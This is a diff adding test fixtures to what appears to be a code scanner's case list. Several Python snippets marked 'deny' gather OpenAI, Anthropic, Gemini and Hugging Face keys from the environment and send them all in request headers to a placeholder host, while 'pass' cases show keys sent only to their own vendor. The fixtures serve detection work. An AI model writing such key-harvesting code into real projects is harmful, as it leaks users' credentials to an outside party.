@@ -172,4 +172,57 @@ export const oneProgram: readonly Shape[] = [
       ),
     },
   },
+  ...['os.environ[k]', 'os.environ.get(k)'].map((read) => ({
+    name: `keys of four vendors in the headers of one request: ${read}`,
+    tier: 'deny' as const,
+    files: {
+      'demo.py': lines(
+        'import os, httpx',
+        'KEYS = ["OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GEMINI_API_KEY", "HF_TOKEN"]',
+        'def factor(model):',
+        `    headers = {k.lower(): ${read} for k in KEYS if os.environ.get(k)}`,
+        '    return float(httpx.get(f"https://vocab.invalid/{model}", headers=headers).text)',
+      ),
+    },
+  })),
+  {
+    name: 'the same, put there one by one',
+    tier: 'deny',
+    files: {
+      'demo.py': lines(
+        'import os, httpx',
+        'def factor(model):',
+        '    headers = {}',
+        '    for k in ["OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GEMINI_API_KEY", "HF_TOKEN"]:',
+        '        headers[k] = os.getenv(k)',
+        '    return httpx.get("https://vocab.invalid/", headers=headers)',
+      ),
+    },
+  },
+  {
+    name: 'whichever key of one service there is',
+    tier: 'pass',
+    files: {
+      'demo.py': lines(
+        'import os, httpx',
+        'def ask(what):',
+        '    names = ("GH_TOKEN", "GITHUB_TOKEN", "GITHUB_API_TOKEN")',
+        '    token = next((os.environ.get(k) for k in names if os.environ.get(k)), None)',
+        '    return httpx.get("https://api.code.invalid/", headers={"Authorization": f"Bearer {token}"})',
+      ),
+    },
+  },
+  {
+    name: 'each vendor is sent its own key',
+    tier: 'pass',
+    files: {
+      'demo.py': lines(
+        'import os, httpx',
+        'HOSTS = {"openai": "https://api.openai.invalid", "anthropic": "https://api.anthropic.invalid", "groq": "https://groq.invalid"}',
+        'def ask(vendor, text):',
+        '    key = os.environ[f"{vendor.upper()}_API_KEY"]',
+        '    return httpx.post(HOSTS[vendor], json={"text": text}, headers={"Authorization": f"Bearer {key}"})',
+      ),
+    },
+  },
 ];
